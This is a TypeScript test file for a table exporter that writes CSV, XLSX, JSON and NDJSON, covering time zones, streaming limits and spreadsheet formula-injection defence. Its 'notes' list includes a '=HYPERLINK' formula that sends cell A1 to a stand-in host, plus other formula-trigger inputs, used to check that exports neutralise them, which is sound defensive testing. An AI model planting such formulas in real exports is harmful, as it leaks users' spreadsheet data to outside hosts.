import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createReadStream } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Money } from '#contract/money.ts'
import { cleanCell } from '../tabular/cell.ts'
import { openTable } from '../tabular/table.ts'
import { columnsOf, pagesBy, type Table } from './columns.ts'
import { writeTable, type TableStyle } from './index.ts'
import { writeXlsx } from './xlsx.ts'

interface Row {
  id: string
  note: string
  count: number | null
  paid: Money | null
  at: string | null
  tags: string[]
  isNew: boolean
}
const { text, whole, money, time, list, flag } = columnsOf<Row>()
const columns = [
  text('id', '编号', 'Id', (row) => row.id),
  text('note', '备注', 'Note', (row) => row.note),
  whole('count', '件数', 'Count', (row) => row.count),
  money('paid', '实付', 'Paid', (row) => row.paid),
  time('at', '时间', 'At', (row) => row.at),
  list('tags', '标签', 'Tags', (row) => row.tags),
  flag('isNew', '新', 'New', (row) => row.isNew),
]
const usual: Row = {
  id: '12345678901234567890',
  note: '五心',
  count: -3,
  paid: { minor: -12_345, currency: 'CNY' },
  at: '2026-03-04T03:00:00.250Z',
  tags: ['a', 'b'],
  isNew: true,
}
const row = (given: Partial<Row>): Row => ({ ...usual, ...given })
const notes = [
  '=HYPERLINK("http://x.example?"&A1,"click")',
  '+1',
  '-1',
  '@SUM(A1)',
  '＝1+1',
  '－2',
  '\t=1',
  "'=already marked",
  "'t Hart",
  'comma, "quoted"\nsecond line; semicolon\tTab',
  '_x0041_ and \u0001',
  '<b>&amp;</b>',
  'plain',
]
const tableOf = (rows: Row[], onPage: () => void = () => undefined): Table<Row> => ({
  columns,
  pages: pagesBy(async (cursor) => {
    onPage()
    const at = Number(cursor ?? '0')
    return { rows: rows.slice(at, at + 4), next: at + 4 < rows.length ? String(at + 4) : null }
  }),
})
const style: TableStyle = { format: 'csv', language: 'en', zone: 'Asia/Shanghai', name: 'Rows' }
const written = async (rows: Row[], more: Partial<TableStyle> = {}) =>
  buffer(writeTable(tableOf(rows), { ...style, ...more }).stream)

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'fh-tables-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** As an import of our own reads it. */
const readBack = async (bytes: Buffer, name: string): Promise<string[][]> => {
  const path = join(folder, name)
  await writeFile(path, bytes)
  const table = await openTable(createReadStream(path), { maxBytes: 1 << 24 })
  const cells: string[][] = []
  for await (const batch of table.rows) for (const one of batch) cells.push(one.cells.map(String))
  return cells
}

describe('CSV', () => {
  test('is what RFC 4180 says, with a byte order mark, times in the zone, and numbers that stay numbers', async () => {
    expect((await written([row({})])).toString()).toBe(
      '\uFEFFId,Note,Count,Paid,At,Tags,New\r\n12345678901234567890,五心,-3,-123.45,2026-03-04 11:00:00.250+08:00,a b,true\r\n',
    )
    const plain = await written([row({ count: null, paid: null, at: null, tags: [], note: 'a;b' })], {
      hasBom: false,
      delimiter: ';',
      language: 'zh',
    })
    expect(plain.toString()).toBe(
      '编号;备注;件数;实付;时间;标签;新\r\n12345678901234567890;"a;b";;;;;true\r\n',
    )
  })

  test.each([
    ['America/New_York', '2026-01-15T12:00:00Z', '2026-01-15 07:00:00-05:00'],
    ['Asia/Kathmandu', '2026-01-15T12:00:00Z', '2026-01-15 17:45:00+05:45'],
    ['America/St_Johns', '2026-07-15T12:00:00Z', '2026-07-15 09:30:00-02:30'],
  ])('times in %s', async (zone, at, cell) => {
    expect((await written([row({ at })], { zone })).toString()).toContain(cell)
  })

  test('[RPT-08] runs nothing, and read again gives the same values', async () => {
    const bytes = await written(notes.map((note) => row({ note })))
    const cells = await readBack(bytes, 'notes.csv')
    // As our connectors read a cell; a tab in front goes with the trimming of its reader.
    expect(cells.map(([, note]) => cleanCell(note ?? '').trim())).toEqual(notes.map((note) => note.trim()))
    for (const [id, , count, paid, at] of cells) {
      expect([id, count, paid]).toEqual([usual.id, '-3', '-123.45'])
      expect(new Date(at ?? '').toISOString()).toBe(usual.at)
    }
    for (const line of bytes.toString().split(/\r\n/).slice(1))
      expect(line.split(',')[1] ?? '').not.toMatch(/^"?[=+\-@\t＝＋－＠]/)
  })
})

describe('XLSX', () => {
  test('[RPT-08] holds texts as texts, numbers as numbers and the shop’s time, and our own reader opens it', async () => {
    const bytes = await written(
      notes.map((note) => row({ note })),
      { format: 'xlsx' },
    )
    const cells = await readBack(bytes, 'notes.xlsx')
    expect(cells).toHaveLength(notes.length)
    expect(cells[0]?.slice(0, 4)).toEqual([usual.id, notes[0], '-3', '-123.45'])
    expect(cells[0]?.[4]).toMatch(/^2026-03-04 11:00:00/)
    const plain = cells.map(([, note]) => note)
    for (const note of ['＝1+1', "'t Hart", '<b>&amp;</b>', 'comma, "quoted"\nsecond line; semicolon\tTab'])
      expect(plain).toContain(note)
  })

  test('goes on in a further sheet where one is full', async () => {
    const rows = Array.from({ length: 10 }, (_, i) => row({ note: `row ${i}` }))
    const zipped = await buffer(
      writeXlsx(tableOf(rows), { language: 'en', zone: 'UTC', name: 'A/B', rowsPerSheet: 4 }),
    )
    const listing = zipped.toString('latin1')
    for (const sheet of [1, 2, 3, 4]) expect(listing).toContain(`xl/worksheets/sheet${sheet}.xml`)
    expect(listing).not.toContain('sheet5.xml')
    // Read by its first sheet alone it would look whole.
    await expect(readBack(zipped, 'sheets.xlsx')).rejects.toMatchObject({ code: 'several_sheets' })
  })

  test('of no rows has its titles', async () => {
    expect(await readBack(await written([], { format: 'xlsx' }), 'none.xlsx')).toEqual([])
  })
})

test('JSON is an array of objects with times in UTC and money whole; NDJSON a line each', async () => {
  const rows = notes.map((note) => row({ note }))
  const objects = rows.map((one) => ({ ...one }))
  expect(JSON.parse((await written(rows, { format: 'json' })).toString())).toEqual(objects)
  expect(JSON.parse((await written([], { format: 'json' })).toString())).toEqual([])
  const lines = (await written(rows, { format: 'ndjson' })).toString().trimEnd().split('\n')
  expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(objects)
})

describe.each(['csv', 'xlsx', 'json', 'ndjson'] as const)('%s', (format) => {
  test('takes no row before it is wanted, and none after whoever reads has gone', async () => {
    let pages = 0
    let isClosed = false
    const endless: Table<Row> = {
      columns,
      pages: (async function* () {
        try {
          for (;;) {
            pages++
            await Promise.resolve()
            yield Array.from({ length: 500 }, (_, i) => row({ note: `${pages} ${i} ${Math.random()}` }))
          }
        } finally {
          isClosed = true
        }
      })(),
    }
    const { stream, rows } = writeTable(endless, { ...style, format })
    const reader = stream.iterator({ destroyOnReturn: false })
    for (let taken = 0; taken < 2; taken++) await reader.next()
    // Nobody reads on: buffers fill and then nothing more is taken.
    let before = -1
    await expect
      .poll(
        () => {
          const isStill = before === pages
          before = pages
          return isStill
        },
        { interval: 200, timeout: 15_000 },
      )
      .toBe(true)
    expect(pages).toBeLessThan(60)
    expect(rows()).toBe(pages * 500)
    stream.destroy()
    await expect.poll(() => isClosed, { timeout: 5000 }).toBe(true)
  })

  test('breaks off when the rows do', async () => {
    const failing: Table<Row> = {
      columns,
      pages: (async function* () {
        yield [row({})]
        await Promise.resolve()
        throw new Error('the database went away')
      })(),
    }
    await expect(buffer(writeTable(failing, { ...style, format }).stream)).rejects.toThrow('went away')
  })
})

test('a hundred thousand rows stay in flat memory', async () => {
  const page = Array.from({ length: 1000 }, (_, i) => row({ note: `note ${i} `.repeat(10) }))
  for (const format of ['csv', 'xlsx', 'json'] as const) {
    const { stream, rows } = writeTable(
      {
        columns,
        pages: Readable.from(
          (function* () {
            for (let i = 0; i < 100; i++) yield page
          })(),
          { objectMode: true, highWaterMark: 1 },
        ) as AsyncIterable<Row[]>,
      },
      { ...style, format },
    )
    const before = process.memoryUsage().rss
    let most = 0
    let bytes = 0
    for await (const piece of stream as AsyncIterable<Buffer>) {
      bytes += piece.length
      most = Math.max(most, process.memoryUsage().rss - before)
    }
    expect(rows()).toBe(100_000)
    expect(bytes).toBeGreaterThan(300_000)
    expect(most / 1e6, format).toBeLessThan(150)
  }
}, 60_000)
